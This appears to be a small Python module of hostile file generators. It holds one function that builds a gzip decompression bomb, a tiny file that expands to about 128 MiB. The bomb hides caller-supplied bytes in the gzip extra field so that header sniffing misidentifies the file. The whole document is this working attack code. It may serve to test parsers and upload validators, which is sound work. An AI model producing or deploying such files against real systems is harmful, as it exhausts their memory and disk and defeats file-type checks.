"""Files that attack what reads them."""

from __future__ import annotations

import struct
import zlib


def gzip_bomb(inside: bytes, expanded: int = 128 << 20) -> bytes:
    """A valid gzip file of about a thousandth of its `expanded` size (bytes), with `inside` (at most 65,531 bytes) in its extra field.

    Who looks for a header in the first kilobyte finds that of `inside`.
    """
    field = b"DR" + struct.pack("<H", len(inside)) + inside
    head = b"\x1f\x8b\x08\x04" + bytes(5) + b"\xff" + struct.pack("<H", len(field)) + field
    deflate = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    checksum, parts = 0, []
    for start in range(0, expanded, 1 << 20):
        block = bytes(min(1 << 20, expanded - start))
        checksum = zlib.crc32(block, checksum)
        parts.append(deflate.compress(block))
    return b"".join([head, *parts, deflate.flush(), struct.pack("<II", checksum, expanded & 0xFFFFFFFF)])
